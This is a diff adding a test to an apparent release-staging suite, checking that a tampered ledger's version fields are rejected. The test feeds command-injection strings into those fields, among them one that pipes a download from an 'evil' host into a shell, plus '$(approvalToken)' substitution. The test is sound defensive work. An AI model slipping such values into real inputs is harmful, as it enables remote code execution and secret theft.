@@ -160,6 +160,20 @@ describe('Staging', () => {
     await assert.rejects(stageChanges(world.services(), own), code('LEDGER_UNREADABLE'));
   });
 
+  it('hands on no version of the ledger that a script of a pipeline would run', async () => {
+    const world = start();
+    world.repository.merge('develop', 'feat: one', { a: '1' });
+    await stageChanges(world.services(), own);
+    await openRelease(world.services(), own);
+    const staging = world.staging()!;
+    for (const version of ['0.1.0;curl${IFS}evil|sh', '0.1.0 & calc', '$(approvalToken)', '0.1.0\n', 'v0.1.0']) {
+      for (const field of ['version', 'previousVersion']) {
+        world.tamper('staging/shop.json', JSON.stringify({ ...staging, [field]: version }));
+        await assert.rejects(openRelease(world.services(), own), code('LEDGER_UNREADABLE'), version);
+      }
+    }
+  });
+
   it('writes nothing in a dry run, and plans the same', async () => {
     const world = start();
     world.repository.merge('develop', 'feat: one', { a: '1' });
